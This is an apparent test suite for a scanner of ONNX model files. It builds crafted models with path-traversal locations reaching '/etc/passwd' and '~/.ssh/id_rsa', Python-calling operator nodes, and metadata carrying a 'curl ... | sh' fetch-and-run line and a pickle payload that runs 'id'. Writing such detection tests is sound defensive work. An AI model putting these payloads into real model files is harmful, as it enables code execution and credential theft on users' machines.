import {
  assembleZip,
  onnxExternalTensor,
  onnxGraph,
  onnxModel,
  onnxNode,
  onnxTensor,
  protobuf,
} from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';

const { message } = protobuf;

function judge(bytes: Uint8Array): string[] {
  const { findings, gaps } = scanBytes(bytes, 'model.onnx');
  expect(gaps).toEqual([]);
  return findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`);
}

describe('what a model makes its loader open', () => {
  it.each([
    '/etc/passwd',
    '../../secret',
    'a/../../b',
    '..\\..\\b',
    'C:\\Windows\\win.ini',
    'C:secret.txt',
    '\\\\host\\share\\x',
    'weights.data\0.png',
    'file:///etc/passwd',
    '~/.ssh/id_rsa',
  ])('%j leads out of the folder', (location) => {
    expect(judge(onnxModel({ initializers: [onnxExternalTensor(location)] }))).toEqual([
      'high reference/escapes-folder',
    ]);
  });

  it('an address is fetched', () => {
    expect(judge(onnxModel({ initializers: [onnxExternalTensor('https://192.0.2.1/w')] }))).toEqual([
      'high reference/remote',
    ]);
  });

  it.each(['weights.data', './a/b.bin', 'a/../b', 'model.onnx_data'])('%s is ordinary', (location) => {
    expect(judge(onnxModel({ initializers: [onnxExternalTensor(location)] }))).toEqual([]);
  });

  it.each([
    ['model.onnx', 'medium format/hides-data'],
    ['./model.onnx', 'medium format/hides-data'],
    ['.', 'low format/oddity'],
    ['weights/', 'low format/oddity'],
    ['$HOME/.cache/weights', 'low format/oddity'],
    ['%APPDATA%\\weights', 'low format/oddity'],
    ['．．/．．/etc/passwd', 'low format/oddity'],
  ])('%j is odd: %s', (location, expected) => {
    expect(judge(onnxModel({ initializers: [onnxExternalTensor(location)] }))).toEqual([expected]);
  });

  it('a compiled context of an execution provider', () => {
    const attributes = { embed_mode: 0, ep_cache_context: '/tmp/ctx.bin' };
    const node = onnxNode('EPContext', { domain: 'com.microsoft', attributes });
    expect(judge(onnxModel({ nodes: [node] }))).toEqual([
      'high reference/escapes-folder',
      'low graph/loads-native',
    ]);
  });
});

describe('what operations do', () => {
  const node = (op: string, domain: string, attributes: Record<string, string> = {}) =>
    onnxModel({ nodes: [onnxNode(op, { domain, attributes })] });

  it.each([
    ['high graph/calls-registered-code', node('PyOp', 'any', { module: 'os', class_name: 'x' })],
    ['high graph/calls-registered-code', node('PythonOp', 'com.microsoft', { func_name: 'a.b' })],
    ['low graph/calls-registered-code', node('PyOp', 'ai.onnx.contrib')],
    ['medium graph/calls-registered-code', node('TritonOp', 'com.microsoft')],
    ['high graph/reads-file', node('ATen', 'org.pytorch.aten', { operator: 'from_file' })],
    ['high graph/reads-file', node('ATen', 'org.pytorch.aten', { operator: 'aten::from_file' })],
    ['low graph/needs-custom-op', node('Mine', 'my.domain')],
    ['low graph/needs-custom-op', node('NoSuchOperator', '')],
  ])('%s', (expected, bytes) => expect(judge(bytes)).toEqual([expected]));

  it('are ordinary where the standard, ONNX Runtime or the model itself defines them', () => {
    for (const bytes of [
      node('Conv', ''),
      node('SVMClassifier', 'ai.onnx.ml'),
      node('FusedMatMul', 'com.microsoft'),
      node('torch_nn_modules_linear_Linear_fc_1', 'pkg.torch.2.1.0'),
      onnxModel({
        nodes: [onnxNode('Mine', { domain: 'my' })],
        functions: [message([1, 'Mine'], [7, onnxNode('Relu')], [10, 'my'])],
      }),
    ])
      expect(judge(bytes)).toEqual([]);
  });
});

describe('structure', () => {
  const withEntry = (...entry: [string, string]) =>
    onnxModel({ initializers: [onnxTensor('w', { external: [['location', 'w.bin'], entry] })] });
  it.each([
    ['medium format/readers-disagree', withEntry('__class__', 'x')],
    ['medium format/readers-disagree', withEntry('location', 'v.bin')],
    ['medium format/exhausts-resources', withEntry('offset', '9'.repeat(18))],
    ['medium format/unsafe-structure', withEntry('length', '3')],
    ['medium format/exhausts-resources', withEntry('length', '300')],
    ['medium format/unsafe-structure', onnxModel({ initializers: [onnxTensor('w', { dims: [-1] })] })],
    ['medium format/exhausts-resources', onnxModel({ initializers: [onnxTensor('w', { dims: [2 ** 45] })] })],
    [
      'medium format/unsafe-structure',
      onnxModel({ initializers: [onnxTensor('w', { dims: [400], raw: new Uint8Array(4) })] }),
    ],
    ['medium format/hides-data', onnxModel({ model: [[60, 'x'.repeat(100)]] })],
  ])('%s', (expected, bytes) => expect(judge(bytes)).toEqual([expected]));
});

describe('texts', () => {
  it.each([
    { metadata: { note: 'curl http://192.0.2.1/x | sh' } },
    { docString: 'import os; os.system("id")' },
    {
      metadata: {
        blob: Buffer.from(
          '\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
          'latin1',
        ).toString('base64'),
      },
    },
  ])('that hold code or a payload are told', (plan) => {
    expect(judge(onnxModel(plan))[0]).toMatch(/^(?:medium|high) metadata\//);
  });

  it('that describe a model are not', () => {
    const metadata = {
      author: 'Someone <a@example.org>',
      license: 'AGPL-3.0 https://example.org/license',
      names: "{0: 'person', 1: 'bicycle', 2: 'car'}",
      stride: '32',
      task: 'detect',
      vocabulary: JSON.stringify({ the: 1, a: 2 }),
    };
    expect(
      judge(
        onnxModel({
          metadata,
          docString: `import torch\n\nA network for images. ${'See https://example.org. '.repeat(20)}`,
        }),
      ),
    ).toEqual([]);
  });
});

describe('a model that is something else, too', () => {
  const zip = assembleZip({ entries: [{ name: 'a.txt', data: 'text' }] });
  const model = onnxModel({ initializers: [onnxExternalTensor('../../secret')], model: [[99, zip]] });

  it('is walked as both', () => {
    const rules = scanBytes(model, 'model.onnx').findings.map(({ ruleId }) => ruleId);
    expect(rules).toContain('reference/escapes-folder');
    expect(rules).toContain('identity/polyglot');
  });

  it('is a model whatever fields nobody knows stand in it', () => {
    const graph = Buffer.concat([
      message([400, 'x'.repeat(80)]),
      onnxGraph({ initializers: [onnxExternalTensor('/x')] }),
    ]);
    const { findings } = scanBytes(message([300, 5], [1, 8], [7, graph]), 'model.onnx');
    expect(findings.map(({ ruleId }) => ruleId)).toEqual(['reference/escapes-folder', 'format/hides-data']);
  });
});

describe('a model as JSON', () => {
  const json = (location: string, opType: string) =>
    Buffer.from(
      JSON.stringify({
        irVersion: '8',
        graph: {
          node: [{ input: ['x'], opType, attribute: [{ name: 'a', t: { name: 'w' } }] }],
          initializer: [{ dims: ['4'], externalData: [{ key: 'location', value: location }] }],
        },
      }),
    );

  it('is judged as the protobuf is', () => {
    const rules = (bytes: Uint8Array) => scanBytes(bytes, 'model.json').findings.map(({ ruleId }) => ruleId);
    expect(rules(json('w.bin', 'Relu'))).toEqual([]);
    expect(rules(json('../../secret', 'Relu'))).toEqual(['reference/escapes-folder']);
    expect(rules(json('w.bin', 'PyOp'))).toEqual(['graph/calls-registered-code']);
    const written = json('../../secret', 'PyOp').toString();
    const snakeCase = written
      .replace('irVersion', 'ir_version')
      .replace('externalData', 'external_data')
      .replace('opType', 'op_type');
    expect(rules(Buffer.from(snakeCase)).sort()).toEqual([
      'graph/calls-registered-code',
      'reference/escapes-folder',
    ]);
  });
});
